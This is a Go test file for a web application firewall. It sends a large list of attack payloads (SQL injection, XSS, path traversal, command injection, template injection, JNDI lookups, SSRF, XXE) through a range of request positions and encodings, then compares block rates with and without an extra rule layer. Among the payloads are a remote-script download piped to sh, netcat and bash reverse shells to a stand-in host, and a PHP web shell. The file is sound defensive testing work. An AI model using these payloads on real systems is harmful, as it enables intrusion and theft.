package rules

import (
	"encoding/base64"
	"fmt"
	"html"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// payloads are attacks of each class as they are written plainly.
var payloads = map[string][]string{
	"sql": {
		"1' OR '1'='1", "' or 1=1-- -", "admin'--", "admin' #", "1 UNION SELECT username,password FROM users", "-1' union all select 1,2,@@version-- ", "1; DROP TABLE users", "1'; EXEC xp_cmdshell('dir')--",
		"1 AND SLEEP(5)", "' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- ", "1' AND extractvalue(1,concat(0x7e,version()))-- ", "1 and updatexml(1,concat(0x7e,user()),1)", "'; WAITFOR DELAY '0:0:5'--", "1 || pg_sleep(5)--",
		"\" or \"\"=\"", "') or ('1'='1", "1) or (1=1", "' having 1=1--", "1 order by 10--", "'||(select password from users limit 1)||'", "1' and substring(@@version,1,1)='5", "x' AND email IS NULL; --", "1/**/UNION/**/SELECT/**/1,2,3", "1'/*!50000UNION*//*!50000SELECT*/1,2--",
	},
	"xss": {
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "<svg/onload=alert`1`>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(document.cookie)\">x</a>", "<body onload=alert(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"",
		"<details open ontoggle=alert(1)>", "<math><mtext></mtext><a xlink:href=\"javascript:alert(1)\">", "<iframe srcdoc=\"<script>alert(1)</script>\">", "javascript:alert(document.domain)", "';alert(1)//", "\"-alert(1)-\"", "</script><script>alert(1)</script>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.test/>", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
	},
	"path": {
		"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "../../../../../../../../proc/self/environ", "php://filter/convert.base64-encode/resource=index.php", "..;/manager/html", "../../wp-config.php", "/var/log/apache2/access.log", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../../../../boot.ini%00.jpg", "C:\\Windows\\System32\\drivers\\etc\\hosts",
	},
	"rce": {
		"; cat /etc/passwd", "| id", "`id`", "$(whoami)", "&& ping -c 3 127.0.0.1", "; wget http://evil.test/x.sh -O- | sh", "127.0.0.1;ls -la", "||curl http://evil.test", "& dir c:\\", "; nc -e /bin/sh 10.0.0.1 4444", "c'a't /etc/passwd", ";cat${IFS}/etc/passwd", "() { :;}; /bin/bash -c id", "powershell -enc aQBkAA==", "<?php system($_GET['c']); ?>", "system('id')", "eval(base64_decode('cGhwaW5mbygpOw=='))", "phpinfo()", "require('child_process').exec('id')", "__import__('os').system('id')", "| net user hacker pw /add", "\nid\n", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "${@print(md5(31337))}",
	},
	"ssti": {
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[2].__subclasses__()}}", "{{constructor.constructor('alert(1)')()}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "#set($x=7*7)$x", "*{7*7}", "{php}phpinfo();{/php}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
	},
	"java":  {"${jndi:ldap://evil.test/a}", "${${lower:j}ndi:${lower:l}dap://evil.test/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.test/a}", "${jndi:dns://evil.test}", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "class.module.classLoader.resources.context", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
	"query": {"{\"$gt\": \"\"}", "{\"$ne\": null}", "{\"$where\": \"sleep(1000)\"}", "' || this.password == 'x", "'; return true; var x='", "*)(uid=*))(|(uid=*", "*)(&", "admin)(&(password=*", "' or count(/*)=1 or '", "__proto__[admin]=1", "{\"__proto__\": {\"admin\": true}}", "constructor[prototype][admin]", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_x", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "x\r\nSet-Cookie: a=b", "<!--#exec cmd=\"id\"-->"},
}

// disguises are how attackers write them, and what undoes each is an application.
var disguises = map[string]func(string) string{
	"plain":       func(s string) string { return s },
	"url twice":   func(s string) string { return url.QueryEscape(s) },
	"base64":      func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"references":  func(s string) string { return references(s) },
	"unicode":     unicodeEscapes,
	"in JSON":     func(s string) string { return toJSON(object{"a": object{"b": s}}) },
	"after words": func(s string) string { return "xin chào " + s },
}

func references(s string) string {
	if !strings.ContainsAny(s, "<>'\"") {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, "&#x%x;", r)
		}
		return b.String()
	}
	return html.EscapeString(s)
}

func unicodeEscapes(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		fmt.Fprintf(&b, "\\u%04x", u)
	}
	return b.String()
}

// positions are where an attack can stand in a request.
var positions = map[string]func(tr *traffic, value string) *sample{
	"query": func(tr *traffic, v string) *sample { return tr.get("/tin?id=" + url.QueryEscape(v)) },
	"form":  func(tr *traffic, v string) *sample { return tr.form("/lien-he", "name", "An", "q", v) },
	"JSON": func(tr *traffic, v string) *sample {
		return tr.post("/api", "application/json", toJSON(object{"a": []any{1, object{"b": v}}}))
	},
	"JSON called text": func(tr *traffic, v string) *sample {
		return tr.post("/api", "text/plain;charset=UTF-8", toJSON(object{"a": v}))
	},
	"no type": func(tr *traffic, v string) *sample { return tr.post("/api", "", v) },
	"XML attribute": func(tr *traffic, v string) *sample {
		return tr.post("/rpc", "text/xml", `<?xml version="1.0"?><a b="`+html.EscapeString(strings.ReplaceAll(v, "\n", " "))+`">x</a>`)
	},
	"cookie": func(tr *traffic, v string) *sample {
		return tr.get("/", "Cookie", "sid=1; id="+strings.NewReplacer(";", "%3B", "\r", "%0d", "\n", "%0a").Replace(v))
	},
	"field": func(tr *traffic, v string) *sample {
		return tr.get("/", oneOf(tr, "X-Forwarded-For", "Referer", "User-Agent", "X-Api-Version"), strings.NewReplacer("\r", "", "\n", "").Replace(v))
	},
	"path": func(tr *traffic, v string) *sample { return tr.get("/tin/" + url.PathEscape(v) + "/xem") },
}

// TestAttacks prints how many attacks CRS alone stops, and how many the second
// opinion. It fails where the latter is no more, in all or of any class plainly written.
func TestAttacks(t *testing.T) {
	stock, weighed := opinionPair(t)
	tr := newTraffic(t, 7)
	var all, before, after int
	type count struct{ all, before, after int }
	by := map[string]*count{}
	add := func(key string, b, a bool) {
		if by[key] == nil {
			by[key] = new(count)
		}
		by[key].all++
		if b {
			by[key].before++
		}
		if a {
			by[key].after++
		}
	}
	for _, class := range sorted(payloads) {
		for _, payload := range payloads[class] {
			for _, place := range sorted(positions) {
				for _, disguise := range sorted(disguises) {
					if disguise != "plain" && tr.dice.IntN(3) > 0 {
						continue
					}
					s := positions[place](tr, disguises[disguise](payload))
					b := inspect(t, stock, s.request, s.reader()).Blocked
					a := inspect(t, weighed, s.request, s.reader()).Blocked
					all++
					if b {
						before++
					}
					if a {
						after++
					} else if disguise == "plain" {
						t.Logf("missed: %s in %s: %q (CRS alone %v)", class, place, payload, b)
					}
					add("class "+class, b, a)
					add("place "+place, b, a)
					add("disguise "+disguise, b, a)
				}
			}
		}
	}
	for _, key := range sorted(by) {
		c := by[key]
		t.Logf("%-24s %4d: %5.1f %% by CRS alone, %5.1f %%", key, c.all, percentOf(c.before, c.all), percentOf(c.after, c.all))
	}
	t.Logf("%d attacks: %.1f %% blocked by CRS alone, %.1f %% with the second opinion", all, percentOf(before, all), percentOf(after, all))
	if after <= before {
		t.Errorf("%d blocked, %d by CRS alone", after, before)
	}
}

func sorted[V any](m map[string]V) []string {
	names := make([]string, 0, len(m))
	for name := range m {
		names = append(names, name)
	}
	slices.Sort(names)
	return names
}
